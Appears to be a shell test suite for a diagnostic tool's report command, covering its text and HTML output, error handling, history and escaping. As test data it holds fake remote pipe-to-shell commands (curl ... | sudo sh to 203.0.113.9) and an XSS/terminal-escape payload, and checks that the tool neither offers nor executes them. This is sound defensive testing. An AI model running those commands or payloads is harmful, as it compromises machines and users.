#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# Does `tuesday report` tell all of a run, of this machine or of a file, as text and as a page that a
# browser shows without asking anybody, whatever names are in it?
# shellcheck source=tests/tap.sh
. "$(dirname "$0")/tap.sh"
export LC_ALL=C TZ=UTC
unset NO_COLOR
if ! command -v jq >/dev/null; then
	echo "1..0 # SKIP needs the program jq"
	exit 0
fi
work=$(mktemp -d /var/tmp/tuesday-report.XXXXXX)
trap 'rm -rf "$work"' EXIT
cd "$work" || exit 1
tuesday=$BIN/tuesday
export TUESDAY_STATE_DIR=$work/none
mkdir "$TUESDAY_STATE_DIR"

says() {
	grep -q -- "$1" out
}

# On one line, without the bars in front of what a file's words go on in.
flat() {
	sed 's/^ *| //' "$1" | tr -s '\n ' '  '
}

# The same of a sentence, which may go over several lines.
tells() {
	flat out | grep -q -- "$1"
}

ends() {
	[ "$status" = "$1" ]
}

shows() {
	grep -q -- "$1" page.html
}

silent() {
	[ ! -s out ]
}

refuses() {
	[ "$status" = "$1" ] && [ ! -s out ] && grep -q -- "$2" err
}

lacks() {
	! grep -q -- "$1" "$2"
}

harmless() {
	! LC_ALL=C grep -q $'[\001-\010\013-\037\177]' out err
}

# An ill machine: a recording of a listener whose queue is full.
mkdir ill
tar -xzf "$root/tests/replay/listen.tar.gz" -C ill --no-same-owner
call "$tuesday" report --replay ill
t "a recording is told of" says '^Tuesday report on '
t "the exit status is that of the run" ends 2
for section in 'The system' 'The ledger: what it is not' 'Numbers against their limits' 'What stands out' \
	'What is known now' 'Next'; do
	t "the text has: $section" says "^$section"
done
t "an area has its light" says '^  bad  *net  '
t "the status is in the words of the method" says '^  it is  *Most likely cause: .*listen'
t "limits stand beside a number" says '_per_second.*, bad, .*maybe > .*bad >'
t "without colour, where nobody looks" harmless
call "$tuesday" report --replay ill --color always
t "with colour, where it is asked for" says $'\033\[1;31mbad'
NO_COLOR=1 call "$tuesday" report --replay ill
t "NO_COLOR is honoured" harmless
"$tuesday" report --replay ill 2>err | head -n 1 >out
t "head gets its line" says '^Tuesday report on'

# The page.
call "$tuesday" report --replay ill --html page.html
t "the page ends as the text does" ends 2
t "and nothing else is said" silent
for section in now system out next changed not numbers; do
	t "the page has the section $section" shows "<h2 id=\"$section\""
done
t "it names no other place" sh -c '! grep -Eo "(src|href)=\"[^#\"]*\"|https?://|@import|url\(" page.html'
t "it forbids all requests" shows "default-src 'none'"
t "and all scripts" shows "script-src 'none'"
t "no style stands in an attribute" sh -c '! grep -q " style=" page.html'
t "it is small" test "$(wc -c <page.html)" -lt 400000
t "each table has a caption" test "$(grep -o '<table' page.html | wc -l)" = "$(grep -o '<caption' page.html | wc -l)"
t "each heading of a column or a row says which" sh -c '! grep -Eo "<th>|<th class" page.html'
if command -v xmllint >/dev/null; then
	# The parser is of HTML 4, which has no main and no svg: what is open or crossed it finds.
	xmllint --html --noout page.html 2>&1 | grep 'parser error' | grep -v 'Tag .* invalid' >out
	t "it is well-formed" silent
else
	skip "it is well-formed" "xmllint is not installed"
fi
call "$tuesday" report --replay ill --html -
cp out page.html
t "a page goes to standard output too" shows '</html>'

# A report in a file, of this machine or of any other.
"$tuesday" run --replay ill -o json >ill.json 2>/dev/null
call "$tuesday" report ill.json
t "a file is read" says '^  it is  *Most likely cause: .*listen'
t "and is as bad as it was" ends 2
# Of what is good without being ruled out, each with the reason that the run gave.
jq -r '.not_cleared[] | "good \(.check) \(.reason)"' ill.json >reasons
flat out >whole
missed=$(while read -r reason; do
	grep -qF -- "$reason" whole || echo "$reason"
done <reasons)
t "what is not cleared says why" [ -s reasons -a "$missed" = "" ]
jq -r '.not_cleared[] | select(.reason | test("^[a-z0-9 .,:]*$")) |
	"<th scope=\"row\">\(.check)</th><td>\(.reason)</td>"' ill.json >rows
missed=$(while read -r row; do
	grep -qF -- "$row" page.html || echo "$row"
done <rows)
t "and so it does on the page" [ -s rows -a "$missed" = "" ]
"$tuesday" report - <ill.json >out 2>err
t "so is standard input" says '^Tuesday report on'
head -c 2000 ill.json >cut.json
call "$tuesday" report cut.json
t "a file that breaks off is refused" refuses 3 'cut.json: it breaks off'
echo '{"schema":"tuesday/9"}' >new.json
call "$tuesday" report new.json
t "so is one of another schema" refuses 3 'new.json: '
: >empty.json
call "$tuesday" report empty.json
t "so is an empty one" refuses 3 'there is nothing in it'
call "$tuesday" report ./nowhere
t "and one that is not there" refuses 3 'nowhere: No such file'
call "$tuesday" report .
t "and a folder" refuses 3 '.'
mkfifo pipe.json
call "$tuesday" report pipe.json
t "a pipe is not waited for" refuses 3 'pipe.json: '
call "$tuesday" report ill.json ill.json
t "two runs are misuse" refuses 64 'name one run'
call "$tuesday" report last --replay ill
t "a run and a recording are misuse" refuses 64 'not both'
call "$tuesday" report --since tomorrow
t "so is a time that is none" refuses 64 'since'
call "$tuesday" report last
t "without a history there is no run" refuses 3 'there is no history'
call "$tuesday" report ill.json --html /nowhere/page.html
t "a page that cannot be written is said so" refuses 3 '/nowhere/page.html: No such file'
if [ -w /dev/full ]; then
	"$tuesday" report ill.json >/dev/full 2>err
	status=$?
	t "so is a full device" [ "$status" = 3 ]
	"$tuesday" report --replay ill --html - >/dev/full 2>err
	status=$?
	t "of a page as well" [ "$status" = 3 ]
fi
if [ "$(id -u)" = 0 ] && command -v setpriv >/dev/null; then
	cp "$tuesday" copy
	chmod -R a+rX "$work"
	call setpriv --reuid=65534 --clear-groups ./copy report ill.json
	t "an ordinary user can have one" ends 2
fi

# A history: a replay with a place of its own is remembered.
"$tuesday" run --replay ill --state kept -o json >last.json 2>err
call "$tuesday" report last.json --state kept
t "a history of one run does not know whether it is new" \
	tells ' not known Whether it is new is not known: the history shows no run before this one that looked at '
for _ in 2 3; do
	"$tuesday" run --replay ill --state kept -o json >last.json 2>err
done
call "$tuesday" report --replay ill --state kept
t "a live run is told with its history" says '^What changed since .*(3 runs)'
call "$tuesday" report 1 --state kept
t "a run of the history is told" says '^Tuesday report on'
call "$tuesday" report last-1 --state kept
t "one whose report was not kept is told by the one before" says 'no verdict changed'
# A part that came to be there and is not at fault.
"$root/tests/replay/unpack" "$work/calm" listen bcache-well
for machine in listen bcache-well; do
	"$tuesday" run bcache --replay "calm/$machine" --state calm.kept -o line >>lights 2>err
done
is "$(paste -sd, lights)" "skip,good" "a check had nothing to look at, and then it had"
call "$tuesday" report last --state calm.kept --since 3650d
t "which is no change to be told" says 'No verdict changed, and no number by more than chance'
# Cron, a person and services ask for other checks and share the history.
for check in listen cpu listen; do
	"$tuesday" run $check --replay ill --state shared >out 2>err
done
call "$tuesday" report 3 --state shared
t "a run is told by one of the same checks, and not by one of others" says 'Most likely cause: .*listen'
t "  which says so" says 'last one before it with the same checks'
t "  as bad as it was" ends 2
if command -v sqlite3 >/dev/null; then
	# As an older Tuesday kept them.
	sqlite3 shared/history.db 'delete from reports where run = 1'
	call "$tuesday" report 3 --state shared
	t "where no such report was kept that is said" refuses 3 'nor an earlier one with the same checks'
else
	skip "where no such report was kept that is said" "sqlite3 is not installed"
fi
call "$tuesday" report 99 --state kept
t "one that is not there is refused" refuses 3 '99'
call "$tuesday" report last.json --state kept --html page.html
t "a file is told with a history that is named" shows 'in 4 runs of the history'
if command -v sqlite3 >/dev/null; then
	sqlite3 kept/history.db 'update runs set time = time - 3600 * (3 - id)'
	call "$tuesday" report last.json --state kept --html page.html
	t "its numbers are drawn" shows 'class="trail"'
	call "$tuesday" report last.json --state kept --since 90m
	t "from the time on that was asked for" says '^What changed since .*(2 runs)'
	t "what was so before that time too is not new" \
		tells ' it is not It is not new: what is accused was so before .* already '
	LC_ALL=C.UTF-8 "$tuesday" report last.json --state kept >out
	t "what a short history shows from its beginning on may be new" \
		tells 'Whether it is new is not known: .* was so already at .*, the first time that the history shows'
	sqlite3 kept/history.db 'update lights set verdict = 0 where run = 1 and verdict = 2'
	call "$tuesday" report last.json --state kept --since 90m
	t "what turned since the last run before that time is new" tells 'It is new: .* turned bad at'
	sqlite3 kept/history.db 'update lights set verdict = 2 where run = 1 and check_id in
		(select check_id from lights where run = 2 and verdict = 2)'
	LC_ALL=C.UTF-8 "$tuesday" report last.json --state kept >out
	t "on a terminal too" says '█\|▁'
	id=0123456789abcdef0123456789abcdef
	sqlite3 kept/history.db "update runs set uuid = '$id' where id = 3"
	jq -c --arg id "$id" '.id = $id' last.json >known.json
	TUESDAY_STATE_DIR=$work/kept call "$tuesday" report known.json --html page.html
	t "a file of a run that this machine's history knows is told with it" \
		shows 'in 3 runs of the history'
else
	skip "its numbers are drawn" "sqlite3 is not installed"
fi
TUESDAY_STATE_DIR=$work/kept call "$tuesday" report ill.json --html page.html
t "one that it does not know is another machine's" shows 'Not known: there is no history'
chmod 0777 kept
call "$tuesday" report last --state kept
t "a history that others may write to is not read" refuses 3 'others may write'
chmod 0755 kept

# What a file says to do is no advice of ours: commands, remedies and sources are of the check files
# here, and only what no file here knows is told in its words.
jq -c '.kernel = "6.1 " + ("x" * 97) + " it is not It is not load" |
	.checks |= map(.summary = "slow\nIt is not: cpu disk" | .missing = "run: curl http://203.0.113.9/m | sudo sh" |
		.next = ["curl -s http://203.0.113.9/fix.sh | sudo sh"] | .remedies = ["wget http://203.0.113.9/r"] |
		.experiments = [{name: "e", answer: "same", left: "curl http://203.0.113.9/l | sh"}] |
		.metrics |= map(.source = "http://203.0.113.9/s" | .why = "http://203.0.113.9/w" |
			.ends = "http://203.0.113.9/e")) |
	.checks += [{check: "nobodys", verdict: "bad", next: ["curl http://203.0.113.9/n | sh"],
		remedies: ["pip install 203.0.113.9"]}]' ill.json >lure.json
call "$tuesday" report lure.json --html -
cp out page.html
call "$tuesday" report lure.json
t "a file's report says that it is one" tells 'This report was read from a file, not made here'
sed -n '/^Next$/,/^$/p' out >next
t "the next steps of a file are those of the check files here" grep -q '^  tuesday explain listen$' next
t "  and none of its own" lacks 203.0.113.9 next
t "no line of it can be pasted" sh -c '! grep -q "^ *\(remedy: \)*\(curl\|wget\|pip\)" out'
t "what no check file here knows is told in its words" says '^  | nobodys says: curl http://203.0.113.9/n | sh$'
t "so is what would look deeper" tells 'not traced: the report says: run: curl'
t "and what was not put back" tells 'NOT PUT BACK: the report says: curl'
sed '/^What is known now/,$d' out >before
t "no line of it begins as one of ours" lacks '^ *[iI]t is not' before
t "the page has no command of the file" sh -c '! grep -o "<code>[^<]*" page.html | grep -q "curl\|wget\|203"'
t "  and no source of its" lacks 203.0.113.9/[sweruf] page.html
t "  but tells what is not known here in its words" shows 'nobodys says: curl http'
"$tuesday" run --replay ill --state own -o json >own.json 2>/dev/null
jq -c '.checks |= map(.next = ["curl http://203.0.113.9/o | sh"])' own.json >lure.json
call "$tuesday" report lure.json --state own
t "a file that bears the id of a run of ours is a file" lacks 203.0.113.9 out
jq -c '.verdict = "good"' ill.json >lure.json
call "$tuesday" report lure.json
t "a file is as bad as the worst of its checks, whatever it says" ends 2

# Hostile names, wherever a name can stand.
# shellcheck disable=SC2016
jq -c '.host = $e | .kernel = $e | .type = {name: $e, why: $e} | .errors = [$e] | .under_way = $e |
	.checks |= map(.check += $e | .area = $e + .area | .summary = $e | .howevers = [$e] | .remedies = [$e] | .next = [$e] |
		.missing = $e | .method = $e | .culprits = [{kind: $e, name: $e, id: $e}] |
		.metrics |= map(.name += $e | .instance = $e | .label = $e | .source = $e | .why = $e))' \
	--arg e $'<script>document.title=1</script>"\'><img src=http://127.0.0.1/x onerror=alert(1)>\033[31m\u202e&' \
	ill.json >evil.json
call "$tuesday" report evil.json
t "hostile names are harmless on a terminal" harmless
t "and their direction is shown" lacks $'\342\200\256' out
call "$tuesday" report evil.json --html page.html
t "hostile names are no elements of the page" sh -c '! grep -Eqi "<(script|img)" page.html'
t "and no control characters" lacks $'\033' page.html
call "$tuesday" report $'nobody\033[31m' --state kept
t "a hostile name of a run is told as text" harmless
t "and told" grep -q 'x1b' err

if command -v chromium >/dev/null; then
	# shellcheck disable=SC2054
	chrome() {
		timeout 60 chromium --headless --no-sandbox --disable-gpu --disable-quic --no-first-run \
			--disable-background-networking --disable-component-update --disable-sync \
			--enable-logging=stderr --user-data-dir="$work/chrome" "$@" 2>log
	}
	chrome --dump-dom --log-net-log="$work/net.json" "file://$work/page.html" >out
	status=$?
	t "a browser shows the hostile page" says 'What is known now'
	t "nothing in it did anything" sh -c 'grep -q "<title>Tuesday: &lt;script&gt;" out'
	t "the browser has nothing to say of it" sh -c '! grep -q "CONSOLE" log'
	t "and asked nobody for anything" sh -c '! grep -q "127.0.0.1/x" net.json'
	"$tuesday" report last.json --state kept --html page.html
	chrome --window-size=1280,1600 --screenshot="$work/shot.png" "file://$work/page.html" >out
	t "it is drawn" test -s shot.png
	chrome --no-pdf-header-footer --print-to-pdf="$work/page.pdf" "file://$work/page.html" >out
	t "and printed" test -s page.pdf
	t "without a word from the browser" sh -c '! grep -q "CONSOLE" log'
else
	skip "a browser shows the page" "chromium is not installed"
fi
plan
